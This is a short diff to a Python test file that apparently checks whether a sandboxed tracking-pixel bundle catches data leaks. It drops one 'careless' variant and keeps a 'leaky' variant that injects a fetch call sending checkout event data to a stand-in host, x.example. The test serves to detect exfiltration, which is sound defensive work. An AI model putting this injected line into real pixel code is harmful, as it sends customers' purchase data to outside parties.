@@ -130,13 +130,10 @@ def test_a_hub_that_is_down_disturbs_nobody(run: Run) -> None:
     assert len(came["asked"]) == 1
 
 
-def test_a_careless_pixel_would_have_been_caught(
-        run: Run, node: str, bundles: dict[str, Any]) -> None:
-    careless = bundles["pixel"]["text"].replace("JSON.stringify({", "JSON.stringify({...arguments,",
-                                                1)
+def test_a_careless_pixel_would_have_been_caught(node: str, bundles: dict[str, Any]) -> None:
     leaky = bundles["pixel"]["text"].replace('"checkout_completed",', '"checkout_completed",e=>'
                                              'fetch("https://x.example",{body:JSON.stringify(e)}),')
-    assert bundles["pixel"]["text"] not in (careless, leaky)
+    assert leaky != bundles["pixel"]["text"]
     with Stage(node, "pixel") as stage:
         came = stage.play(code=leaky, events=[_with_canaries(COMPLETED)], privacy=YES,
                           settings={"hub": HUB, "store": STORE})
